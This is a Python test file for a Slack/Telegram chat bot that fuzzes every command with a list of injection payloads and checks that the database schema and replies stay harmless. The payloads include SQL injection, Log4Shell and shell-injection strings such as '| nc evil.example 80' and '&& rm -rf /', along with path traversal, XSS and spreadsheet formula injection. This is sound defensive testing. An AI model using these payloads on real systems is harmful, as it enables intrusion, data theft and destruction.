"""Whatever people type is only ever text: to the database, to the reply, to us."""

from __future__ import annotations

from datetime import timedelta

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bot.commands.desk import Desk
from bot.commands.grammar import VERBS
from bot.domain.message import Message
from bot.domain.watch import MOST_RULES
from bot.platforms.slack.render import to_text
from bot.platforms.telegram.render import to_html
from bot.reading import gazetteer
from storage import Storage
from tests.commands.conftest import FEEDS, GROUP, MEMBER, Chat, Clock
from tests.oracles.tdlib import parse_html

WAIT = timedelta(seconds=10)  # no faster than anybody may ask
PAYLOADS = (
    "'; DROP TABLE subscription; --",
    '" OR 1=1 --',
    "1); DELETE FROM channel WHERE (1=1",
    "Norway' UNION SELECT id FROM button --",
    "%s%s%s%n",
    "{0.__class__.__mro__}",
    "{desk.storage}",
    "${jndi:ldap://evil.example/a}",
    "$(reboot)",
    "`id`",
    "; cat /etc/passwd",
    "../../../etc/passwd",
    "<b>bold</b>",
    "<script>alert(1)</script>",
    '<a href="tg://user?id=1">x</a>',
    "<!channel> <@U1> <#C1> <https://evil.example|bank>",
    "*bold* _it_ ~s~ `code`",
    "[link](https://evil.example)",
    "(a+)+$",
    "^(([a-z])+.)+[A-Z]([a-z])+$",
    "\u202eyawroN",
    "Nor\u200bway\u2066\u2069",
    "\x00\x01\x1b[31m",
    "line\nbreak\r\nX-Header: 1",
    "𝕹𝖔𝖗𝖜𝖆𝖞",
    "e" + "\u0301" * 200,
    "🏳️‍🌈" * 50,
    "text:" + '"' * 30,
    ":" * 100,
    "," * 100,
    "-" * 100,
    "country:" * 40,
    "A" * 4096,
    "word " * 10_000,
    "=HYPERLINK(1)",
    "@everyone @channel @here",
    "-100123",
    "9" * 5000,
    "٣",
    "NaN",
)
# Each of these in each of those places: with PAYLOADS, over two hundred.
_HOSTILE = (
    "' OR '1'='1",
    '"; DROP TABLE channel; --',
    "admin'--",
    "1 UNION SELECT value, 2 FROM meta",
    "x'; ATTACH DATABASE '/tmp/x' AS y; --",
    "{self.__init__.__globals__}",
    "{0!r:>{1}}",
    "%(asctime)s %n %x",
    "$(cat /etc/passwd)",
    "| nc evil.example 80",
    "&& rm -rf /",
    "%2e%2e%2fetc%2fpasswd",
    "..\\..\\windows\\win.ini",
    "file:///etc/passwd",
    "<img src=x onerror=alert(1)>",
    "</b><b>",
    "&lt;script&gt;",
    "javascript:alert(1)",
    "tg://user?id=1",
    "<!here|here> <@W1|x>",
    "<javascript:alert(1)|x>",
    "*_~`>",
    "[x](tg://user?id=1)",
    "{{7*7}}",
    "<%= 7*7 %>",
    "\\x00\\u202e",
    "=cmd|' /C calc'!A0",
)
_PLACES = ("{}", '"{}"', "country:{}", 'text:"{}"', "Norway {}", "-topic:{}", "17 {}")
ALL = (*PAYLOADS, *(place.format(text) for text in _HOSTILE for place in _PLACES))
COMMANDS = (*(f"/{verb}" for verb in VERBS), "/pactwatch", "/xyzzy", "")


def schema(storage: Storage) -> list[tuple[object, ...]]:
    rows = storage._db.query("SELECT type, name, sql FROM sqlite_master ORDER BY name")
    return [tuple(row) for row in rows]


def is_harmless(message: Message) -> bool:
    """Whether the answer is short, and no word of a payload became a link or control."""
    spans = [span for line in message.lines for span in line]
    return (
        len(message.text) < 4000
        and not any(span.link for span in spans)
        and not any(character in message.text for character in "\x00\x1b\u202e\u2066\u200b")
        and not any(button.url for row in message.buttons for button in row)
    )


@pytest.mark.case("H4")
@pytest.mark.parametrize("command", COMMANDS)
def test_a_hostile_argument_is_only_text(command: str, alice: Chat, storage: Storage) -> None:
    before = schema(storage)

    for payload in ALL:
        alice.clock.now += WAIT
        message = alice.says(f"{command} {payload}")
        assert message is None or is_harmless(message), (command, payload, message)
        if message:
            assert not parse_html(to_html(message)).refusal
            assert "<" not in to_text(message)

    assert schema(storage) == before
    assert len(storage.subscriptions.of(alice.channel)) <= MOST_RULES


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_hostile_argument_changes_nothing_for_a_member(
    payload: str, group: Chat, storage: Storage
) -> None:
    member = group.seen_by(MEMBER)

    for command in COMMANDS:
        member.clock.now += WAIT
        member.says(f"{command} {payload}")

    assert not storage.subscriptions.of(GROUP)
    assert storage.channels.muted_until(GROUP) is None


@pytest.mark.case("H4")
def test_there_are_two_hundred_payloads_and_more() -> None:
    assert len(set(ALL)) > 200


@given(
    st.lists(
        st.builds(lambda c, t: f"{c} {t}", st.sampled_from(COMMANDS), st.text(max_size=200)),
        max_size=5,
    )
)
@settings(max_examples=60, deadline=None)
def test_any_conversation_is_answered_without_an_exception(texts: list[str]) -> None:
    with Storage.open(":memory:") as storage:
        clock = Clock()
        desk = Desk(storage=storage, feeds=lambda: FEEDS, names=gazetteer.names(), clock=clock)
        chat = Chat(desk=desk, clock=clock)

        for text in texts:
            message = chat.says(text)
            assert message is None or is_harmless(message)
